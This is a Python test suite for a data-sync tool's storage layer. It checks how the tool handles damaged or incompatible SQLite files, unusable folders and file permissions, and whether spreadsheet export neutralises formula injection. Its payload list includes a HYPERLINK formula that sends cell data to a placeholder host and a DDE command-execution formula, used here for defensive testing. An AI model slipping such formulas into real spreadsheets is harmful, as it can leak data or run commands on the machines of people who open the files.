"""The data file and its folder: too old an SQLite, damaged, foreign and newer files, and who may read them."""

import itertools
import os
import random
import stat
import sys
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest
from sqlite_utils.utils import sqlite3  # type: ignore[attr-defined]

from atsdesk.desk import Desk
from atsdesk.errors import ConfigError, DeskError
from atsdesk.store import backups
from atsdesk.store import file as store_file
from atsdesk.store.file import check_sqlite
from tests.faults.copies import Office, assert_plain, assert_told, run_command
from tests.faults.servers import Asked, between
from tests.faults.whole import meddle

POSIX = pytest.mark.skipif(os.name == "nt", reason="Windows keeps other people out by its own rules")


@pytest.mark.fault(23)
@pytest.mark.parametrize("version", [(3, 40, 1), (3, 51, 2), (3, 7)])
def test_an_sqlite_that_can_damage_the_file_is_refused(version: tuple[int, ...]) -> None:
    with pytest.raises(ConfigError) as problem:
        check_sqlite(version)
    assert_plain(problem.value.title, problem.value.hint)
    assert ".".join(map(str, version)) in problem.value.title
    check_sqlite((3, 51, 3))
    check_sqlite((4, 0, 0))


@pytest.mark.fault(23)
def test_the_sqlite_in_use_is_checked_before_the_file_is_touched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = store_file.check_sqlite
    monkeypatch.setattr(store_file, "check_sqlite", lambda: old((3, 40, 1)))
    with pytest.raises(ConfigError, match="too old"):
        Desk(tmp_path / "data")
    assert not (tmp_path / "data").exists()


# --- A file that is not as it should be


def random_header(path: Path) -> None:
    with path.open("r+b") as file:
        file.write(random.Random(1).randbytes(4096))


def damaged_pages(path: Path) -> None:
    with path.open("r+b") as file:
        for place in range(2 * 16384, path.stat().st_size, 16384):
            file.seek(place)
            file.write(random.Random(place).randbytes(512))


def truncated(path: Path) -> None:
    os.truncate(path, path.stat().st_size // 2 // 16384 * 16384)


def cut_in_a_page(path: Path) -> None:
    os.truncate(path, 10_000)


def text(path: Path) -> None:
    path.write_text("Dear diary,\n" * 1000, encoding="utf-8")


def foreign(path: Path) -> None:
    path.unlink()
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("create table recipes (name text)")
        db.execute("insert into recipes values ('soup')")


def newer(path: Path) -> None:
    with closing(sqlite3.connect(path)) as db:
        db.execute("pragma user_version = 999")


def lost_table(path: Path) -> None:
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("drop table applications")


DAMAGES = [random_header, truncated, cut_in_a_page, text, foreign, newer]
damage_of = pytest.mark.parametrize("damage", DAMAGES, ids=lambda damage: damage.__name__)


@damage_of
def test_a_file_that_cannot_be_used_is_refused_untouched(
    office: Office, damage: Callable[[Path], None]
) -> None:
    copy = office.reference()
    copy.close()
    damage(copy.database)
    before = copy.database.read_bytes()

    with pytest.raises(ConfigError) as problem:
        copy.sync()
    assert_plain(problem.value.title, problem.value.hint)
    copy.close()
    assert copy.database.read_bytes() == before


@pytest.mark.parametrize(
    "command", [("sync",), ("status",), ("issues",), ("export", "x.xlsx")], ids=lambda words: words[0]
)
def test_every_command_refuses_a_newer_file_with_a_sentence(
    office: Office, command: tuple[str, ...], tmp_path: Path
) -> None:
    copy = office.copy()
    copy.close()
    newer(copy.database)
    words = [str(tmp_path / word) if word.endswith("xlsx") else word for word in command]
    assert_told(copy.command(*words), 2, "newer version", "Install the newest")


@pytest.mark.parametrize("damage", [random_header, damaged_pages], ids=lambda damage: damage.__name__)
def test_the_command_says_that_the_file_is_damaged_and_what_to_do(
    office: Office, damage: Callable[[Path], None], tmp_path: Path
) -> None:
    copy = office.reference()
    copy.close()
    damage(copy.database)

    commands = (
        [("sync",)] if damage is random_header else [("status",), ("export", str(tmp_path / "out.xlsx"))]
    )
    for words in commands:
        assert_told(copy.command(*words), 2, "damaged", "atsdesk restore", "atsdesk doctor --repair")
    doctor = copy.command("doctor")
    assert doctor.returncode == 1
    assert "damaged" in doctor.stdout
    assert not (tmp_path / "out.xlsx").exists()


@pytest.mark.parametrize("damage", [damaged_pages, lost_table], ids=lambda damage: damage.__name__)
def test_damage_that_shows_while_the_program_runs_is_told(
    office: Office, damage: Callable[[Path], None]
) -> None:
    copy = office.reference()
    copy.close()
    damage(copy.database)
    told = []
    for attempt in (
        lambda: copy.desk.reading.status(),
        lambda: copy.sync(full=True),
        lambda: copy.desk.reading.runs(),
        lambda: copy.desk.reading.candidate("acme", "1"),
    ):
        try:
            attempt()
        except DeskError as error:
            assert_plain(error.title, error.hint)
            told.append(error)
    assert told


def test_a_damaged_file_moved_aside_is_made_again_by_a_sync(office: Office) -> None:
    reference = office.reference()
    copy = office.keep(reference.twin("data"))
    random_header(copy.database)
    for left in copy.folder.glob("atsdesk.db*"):
        left.rename(left.with_name(f"aside-{left.name}"))

    copy.connect()
    assert copy.sync().state == "SUCCEEDED"
    copy.assert_whole(reference)


# --- A folder that cannot be used


def unusable_folders(tmp_path: Path) -> dict[str, Path]:
    (tmp_path / "file").write_text("I am no folder.", encoding="utf-8")
    folders = {"a file": tmp_path / "file", "under a file": tmp_path / "file" / "data"}
    if sys.platform.startswith("linux"):
        folders["of the system"] = Path("/proc/atsdesk")
    if os.name != "nt" and os.geteuid():
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        folders["locked"] = locked
        folders["in a locked one"] = locked / "data"
    return folders


@pytest.mark.parametrize("place", ["a file", "under a file", "of the system", "locked", "in a locked one"])
def test_a_folder_that_cannot_be_used_is_told(tmp_path: Path, place: str) -> None:
    folder = unusable_folders(tmp_path).get(place)
    if folder is None:
        pytest.skip("whoever runs this test may write anywhere")
    with pytest.raises(ConfigError) as problem:
        Desk(folder)
    assert_plain(problem.value.title, problem.value.hint)
    assert_told(run_command(folder, "accounts", "list"), 2)


def test_a_folder_in_the_place_of_the_file_is_told(tmp_path: Path) -> None:
    (tmp_path / "data" / "atsdesk.db").mkdir(parents=True)
    with pytest.raises(ConfigError) as problem:
        Desk(tmp_path / "data")
    assert_plain(problem.value.title, problem.value.hint)


# --- Who may read it, and what a spreadsheet makes of it


def modes(folder: Path) -> dict[str, int]:
    return {
        str(path.relative_to(folder.parent)): stat.S_IMODE(path.stat().st_mode)
        for path in (folder, *folder.rglob("*"))
    }


@POSIX
@pytest.mark.fault(27)
@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_nobody_else_may_read_folder_or_files(office: Office, umask: int) -> None:
    before = os.umask(umask)
    try:
        copy = office.copy()
        copy.sync()
        copy.desk.remember("size", [800, 600])
        backups.make(copy.database, "before-the-test")
        files = modes(copy.folder)
        names = {Path(name).name for name in files}
        assert {"atsdesk.db", "atsdesk.db-wal", "atsdesk.db-shm", "window.json", "backups"} <= names
        assert any(name.endswith(".lock") for name in names)
        for name, mode in files.items():
            assert mode == (0o700 if (copy.folder.parent / name).is_dir() else 0o600), name
    finally:
        os.umask(before)


@POSIX
@pytest.mark.fault(27)
def test_the_command_leaves_nothing_that_others_may_read(office: Office, tmp_path: Path) -> None:
    copy = office.copy()
    copy.close()
    assert copy.command("sync").returncode == 0
    workbook = tmp_path / "out" / "people.xlsx"
    workbook.parent.mkdir()
    assert copy.command("export", str(workbook)).returncode == 0

    for name, mode in (modes(copy.folder) | modes(workbook.parent)).items():
        if name != "out":
            assert not mode & 0o077, name


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere.example?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.fault(27)
def test_a_name_that_looks_like_a_formula_is_text_in_the_workbook(office: Office, tmp_path: Path) -> None:
    names = itertools.cycle(FORMULAS)

    def rename(asked: Asked, answer: object) -> object:
        if isinstance(answer, dict) and office.system.people in answer:
            for record in answer[office.system.people]:
                if "first_name" in record:
                    record["first_name"] = next(names)
        return answer

    copy = office.copy()
    with between(office.sandbox.base_url, rename) as server:
        meddle(copy.database, "update accounts set base_url = ?", server.base_url)
        copy.sync()
    copy.close()
    workbook = tmp_path / "people.xlsx"
    assert copy.command("export", str(workbook)).returncode == 0

    with closing(openpyxl.load_workbook(workbook)) as book:
        cells = [
            cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
        ]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b", "inlineStr"}
        texts = {str(cell.value).strip() for cell in cells}
        for formula in FORMULAS:
            assert any(formula.strip() in text for text in texts), formula
        assert [
            cell.hyperlink for cell in cells if cell.hyperlink and "elsewhere" in str(cell.hyperlink.target)
        ] == []
